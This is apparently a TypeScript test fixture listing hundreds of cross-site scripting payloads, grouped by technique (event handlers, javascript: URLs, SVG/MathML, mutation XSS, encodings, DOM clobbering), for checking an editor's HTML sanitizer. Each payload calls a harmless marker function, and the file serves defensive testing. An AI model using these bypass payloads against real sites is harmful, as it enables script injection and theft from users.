/**
 * HTML by which somebody would run a script in the browser of whoever reads it: each calls `ran()` if anything
 * in it is run. By families of known ways; every payload is a text of its own.
 */
export const hostileHtml: readonly string[] = [
  ...handlers(),
  ...addresses(),
  ...scripts(),
  ...foreign(),
  ...mutations(),
  ...styles(),
  ...frames(),
  ...encodings(),
  ...broken(),
  ...clobbering(),
  ...attributesOfOurs(),
]

/** Event handlers, on elements that are allowed and that are not. */
function handlers(): string[] {
  const elements = [
    '<img src=x HANDLER>',
    '<p HANDLER style="position:fixed;inset:0">x</p>',
    '<a href="https://x.invalid" HANDLER>x</a>',
    '<svg HANDLER></svg>',
    '<input autofocus HANDLER>',
    '<details open HANDLER>x</details>',
    '<video src=x HANDLER></video>',
    '<body HANDLER>',
    '<table HANDLER><tr HANDLER><td HANDLER>x</td></tr></table>',
    '<span data-type="mention" data-id="1" HANDLER>@x</span>',
  ]
  const events = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onpointerenter', 'onanimationstart']
  const forms = elements.flatMap((element) =>
    events.map((event) => element.replaceAll('HANDLER', `${event}="ran()"`)),
  )
  const ways = [
    'onerror=ran()',
    'ONERROR=ran()',
    "onerror='ran()'",
    'onerror\n=\nran()',
    'onerror\t=ran()',
    '/onerror=ran()',
    '/x/onerror=ran()//',
    '"onerror=ran()',
    'x="y"onerror=ran()',
    'onerror=&#114;an()',
    'onerror=\u0000ran()',
    'onerror="\\u0072an()"',
    'on\u0000error=ran()',
    '\u000Conerror=ran()',
    '\u2028onerror=ran()',
  ]
  return [...forms, ...ways.map((way) => `<img src=x ${way}>`)]
}

/** Addresses that are programs, in links and everywhere else where addresses stand. */
function addresses(): string[] {
  const urls = [
    'javascript:ran()',
    'JaVaScRiPt:ran()',
    ' javascript:ran()',
    '\u0001javascript:ran()',
    'java\tscript:ran()',
    'java\nscript:ran()',
    'java\rscript:ran()',
    'javascript\u0000:ran()',
    'javascript&colon;ran()',
    'javascript&#58;ran()',
    'javascript&#x3A;ran()',
    '&#106;avascript:ran()',
    '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;ran()',
    '&#0000106avascript:ran()',
    'javascript&Tab;:ran()',
    'java&NewLine;script:ran()',
    '\\javascript:ran()',
    '//javascript:ran()',
    'javascript://x.invalid/%0aran()',
    'javascript:/*https://x.invalid*/ran()',
    'vbscript:ran()',
    'livescript:ran()',
    'data:text/html,<script>ran()</script>',
    'data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==',
    'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="ran()"/>',
    'blob:https://x.invalid/1',
    'filesystem:https://x.invalid/1',
    'view-source:javascript:ran()',
    'feed:javascript:ran()',
    'mhtml:javascript:ran()',
    'https:javascript:ran()',
    'file:///etc/passwd',
  ]
  const quoted = (url: string) => url.replaceAll('"', '&quot;')
  return [
    ...urls.map((url) => `<a href="${quoted(url)}">x</a>`),
    ...urls.slice(0, 24).map((url) => `<img src="${quoted(url)}">`),
    ...urls
      .slice(0, 6)
      .flatMap((url) => [
        `<form action="${url}"><input type=submit></form>`,
        `<button formaction="${url}">x</button>`,
        `<iframe src="${url}"></iframe>`,
        `<object data="${url}"></object>`,
        `<embed src="${url}">`,
        `<svg><a xlink:href="${url}"><text>x</text></a></svg>`,
      ]),
    '<base href="javascript:/"><a href="#">x</a>',
    '<a href="https://x.invalid" ping="javascript:ran()">x</a>',
    '<area href="javascript:ran()"><map><area href="javascript:ran()"></map>',
    '<math href="javascript:ran()">x</math>',
    '<link rel=import href="data:text/html,<script>ran()</script>">',
    '<meta http-equiv=refresh content="0;url=javascript:ran()">',
    '<blockquote cite="javascript:ran()">x</blockquote>',
    '<table background="javascript:ran()"><tr><td background="javascript:ran()">x</td></tr></table>',
  ]
}

/** Scripts as such, however they are written. */
function scripts(): string[] {
  return [
    '<script>ran()</script>',
    '<SCRIPT>ran()</SCRIPT>',
    '<script\n>ran()</script\n>',
    '<script/x>ran()</script>',
    '<script src="data:,ran()"></script>',
    '<script src=//x.invalid/x.js></script>',
    '<script type=module>ran()</script>',
    '<scr<script>ipt>ran()</scr</script>ipt>',
    '<<script>ran()//<</script>',
    '<script>ran()',
    '<script><!--\nran()//--></script>',
    '</script><script>ran()</script>',
    '<p><script>ran()</script></p>',
    '<ul><li><script>ran()</script></li></ul>',
    '<table><script>ran()</script></table>',
    '<pre><code><script>ran()</script></code></pre>',
    '<noscript><p title="</noscript><script>ran()</script>">x</p></noscript>',
    '<template><script>ran()</script></template>',
    '<template><img src=x onerror=ran()></template>',
    '<div><template shadowrootmode=open><script>ran()</script></template></div>',
  ]
}

/** Elements of other languages, inside of which other rules hold. */
function foreign(): string[] {
  return [
    '<svg><script>ran()</script></svg>',
    '<svg onload=ran()>',
    '<svg><animate onbegin=ran() attributeName=x dur=1s></svg>',
    '<svg><set attributeName=href to=javascript:ran()></svg>',
    '<svg><a><animate attributeName=href values=javascript:ran() /><text>x</text></a></svg>',
    '<svg><foreignObject><img src=x onerror=ran()></foreignObject></svg>',
    '<svg><style><img src=x onerror=ran()></style></svg>',
    '<svg><title><img src=x onerror=ran()></title></svg>',
    '<svg><desc><script>ran()</script></desc></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=ran()>#x"/></svg>',
    '<svg><image href=x onerror=ran() /></svg>',
    '<svg></p><img src=x onerror=ran()></svg>',
    '<svg><p><style><!--</style><img src=x onerror=ran()>--></style></svg>',
    '<math><mtext><img src=x onerror=ran()></mtext></math>',
    '<math><mi xlink:href="javascript:ran()">x</mi></math>',
    '<math><annotation-xml encoding="text/html"><img src=x onerror=ran()></annotation-xml></math>',
    '<math><maction actiontype=statusline xlink:href=javascript:ran()>x</maction></math>',
    '<xml><img src=x onerror=ran()></xml>',
    '<?xml version="1.0"?><html:script xmlns:html="http://www.w3.org/1999/xhtml">ran()</html:script>',
    '<![CDATA[<img src=x onerror=ran()>]]>',
  ]
}

/** HTML that becomes something else when it is read a second time. */
function mutations(): string[] {
  return [
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ran()&gt;">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran()>',
    '<svg></p><style><a id="</style><img src=1 onerror=ran()>">',
    '<noscript><style></noscript><img src=x onerror=ran()></style>',
    '<p title="</p><img src=x onerror=ran()>">x',
    '<img alt="`><img src=x onerror=ran()>">',
    '<img alt="x` `onerror=ran()">',
    '<table><tr><td><a href="</td></table><img src=x onerror=ran()>">x</a>',
    '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=ran()>">',
    '<textarea><img title="</textarea><img src=x onerror=ran()>"></textarea>',
    '<title><img title="</title><img src=x onerror=ran()>"></title>',
    '<xmp><p title="</xmp><img src=x onerror=ran()>">',
    '<noembed><p title="</noembed><img src=x onerror=ran()>">',
    '<noframes><p title="</noframes><img src=x onerror=ran()>">',
    '<plaintext><img src=x onerror=ran()>',
    '<!--><img src=x onerror=ran()>-->',
    '<!---><img src=x onerror=ran()>-->',
    '<!-- --!><img src=x onerror=ran()> -->',
    '<!-- > <img src=x onerror=ran()> -->',
    '<!doctype [<!entity x "<img src=x onerror=ran()>">]>&x;',
    '<listing>&lt;img src=x onerror=ran()&gt;</listing>',
    '<code>&lt;img src=x onerror=ran()&gt;</code>',
    '<pre>\n<code>\n&lt;/code&gt;<img src=x onerror=ran()></pre>',
    '<b><p><b><p></b></p><img src=x onerror=ran()></b>',
  ]
}

/** Style, which loads and, in old browsers, runs. */
function styles(): string[] {
  return [
    '<style>@import "javascript:ran()";</style>',
    '<style>body{background:url(javascript:ran())}</style>',
    '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=ran()>x</p>',
    '<p style="background:url(javascript:ran())">x</p>',
    '<p style="width:expression(ran())">x</p>',
    '<p style="-moz-binding:url(//x.invalid/x.xml#x)">x</p>',
    '<p style="behavior:url(x.htc)">x</p>',
    '<p style="position:fixed;inset:0;z-index:9999999">x</p>',
    '<link rel=stylesheet href="//x.invalid/x.css">',
    '<p class="x" id="root" style="}</style><script>ran()</script>">x</p>',
  ]
}

/** Documents in the document. */
function frames(): string[] {
  return [
    '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
    '<iframe srcdoc="&lt;img src=x onerror=parent.ran()&gt;"></iframe>',
    '<iframe src="data:text/html,<script>parent.ran()</script>"></iframe>',
    '<iframe onload=ran()></iframe>',
    '<iframe srcdoc=x sandbox="allow-scripts" onload=ran()></iframe>',
    '<frameset onload=ran()><frame src="javascript:ran()"></frameset>',
    '<object data="data:text/html,<script>parent.ran()</script>"></object>',
    '<object><param name=movie value="javascript:ran()"></object>',
    '<embed src="data:image/svg+xml,<svg onload=ran()>">',
    '<applet code="javascript:ran()"></applet>',
    '<portal src="javascript:ran()"></portal>',
    '<fencedframe src="javascript:ran()"></fencedframe>',
    '<dialog open onclose=ran()><form method=dialog><button autofocus>x</button></form></dialog>',
    '<marquee onstart=ran()>x</marquee>',
    '<audio src=x onerror=ran()></audio>',
    '<video><source onerror=ran()></video>',
    '<picture><source srcset=x onerror=ran()><img srcset=x onerror=ran()></picture>',
    '<img src="https://x.invalid/x" srcset="x 1x" onerror=ran()>',
  ]
}

/** Characters that stand for others. */
function encodings(): string[] {
  const tag = 'img src=x onerror=ran()'
  return [
    `&lt;${tag}&gt;`,
    `&amp;lt;${tag}&amp;gt;`,
    `&#60;${tag}&#62;`,
    `&#x3c;${tag}&#x3e;`,
    `\uFF1C${tag}\uFF1E`,
    `\u2039${tag}\u203A`,
    `+ADw-${tag}+AD4-`,
    `%3C${tag}%3E`,
    `\\x3c${tag}\\x3e`,
    `\\u003c${tag}\\u003e`,
    `<\u0000${tag}>`,
    `<im\u0000g src=x onerror=ran()>`,
    `\uD83D<${tag}>`,
    `\uFEFF<${tag}>`,
    `\u202E<${tag}>`,
    `<${tag}\u2029>`,
    `¼${tag}¾`,
    `{{constructor.constructor('ran()')()}}`,
    '${ran()}',
    '#{ran()}',
    '<%= ran() %>',
    '[[x]](javascript:ran())',
    '[x](javascript:ran())',
    '![x](javascript:ran())',
    '<javascript:ran()>',
    '=HYPERLINK("javascript:ran()","x")',
  ]
}

/** What is no HTML, as browsers mend it in their own way. */
function broken(): string[] {
  return [
    '<img src=x onerror=ran()',
    '<img src=x onerror=ran()//',
    '<img src="x" onerror="ran()',
    '<img """><script>ran()</script>">',
    "<img ''onerror=ran()>",
    '<img/src=x/onerror=ran()>',
    '<img\u000Csrc=x\u000Conerror=ran()>',
    '< img src=x onerror=ran()>',
    '<img src=x:x onerror=ran()>',
    '<image src=x onerror=ran()>',
    '<a href="https://x.invalid"<img src=x onerror=ran()>>x</a>',
    '<p <img src=x onerror=ran()>>',
    '<x onclick=ran() tabindex=1 autofocus onfocus=ran()>x</x>',
    '<custom-element onpointerenter=ran()>x</custom-element>',
    '<p contenteditable onfocus=ran() autofocus>x</p>',
    '<p><p><p '.repeat(50) + 'onclick=ran()>',
    '<b>'.repeat(600) + '<img src=x onerror=ran()>',
    '<ul><li>'.repeat(100) + '<img src=x onerror=ran()>',
    '</p></div></body></html><img src=x onerror=ran()>',
    '<table><td><table><td><img src=x onerror=ran()></table></table>',
  ]
}

/** Names that hide what the page itself asks for. */
function clobbering(): string[] {
  return [
    '<form id=document><input name=cookie></form>',
    '<img name=querySelector><img id=getElementById>',
    '<form><input name=attributes><input name=parentNode></form>',
    '<form><input name=nodeName><input name=removeChild></form>',
    '<a id=location href="javascript:ran()">x</a>',
    '<a id=x><a id=x name=y href="javascript:ran()">x</a>',
    '<p id="__proto__" name="constructor">x</p>',
    '<iframe name=top srcdoc="<script>parent.ran()</script>"></iframe>',
  ]
}

/** The attributes that a text may have, with what they may not hold. */
function attributesOfOurs(): string[] {
  return [
    '<pre><code class="language-x onload=ran()">x</code></pre>',
    '<code class="language-x\u0022 onclick=\u0022ran()">x</code>',
    '<span data-type="mention" data-id="&quot;&gt;&lt;img src=x onerror=ran()&gt;" data-label="x">@x</span>',
    '<span data-type="mention" data-id="1" data-label="<img src=x onerror=ran()>">@x</span>',
    '<li data-type="taskItem" data-checked="true&quot; onclick=&quot;ran()">x</li>',
    '<ol start="1 onload=ran()"><li>x</li></ol>',
    '<table><tr><td colspan="2 onclick=ran()" rowspan="99999999">x</td></tr></table>',
    '<img src="/x" alt="&quot; onerror=&quot;ran()" width="1 onerror=ran()">',
    '<img src="/\\x.invalid/x"><img src="/\t/x.invalid/x"><img src="//x.invalid/x">',
    '<a href="https://x.invalid/&quot;onmouseover=&quot;ran()">x</a>',
    '<a href="mailto:x@x.invalid?body=<script>ran()</script>">x</a>',
    '<a href="tel:+1;javascript:ran()">x</a>',
  ]
}
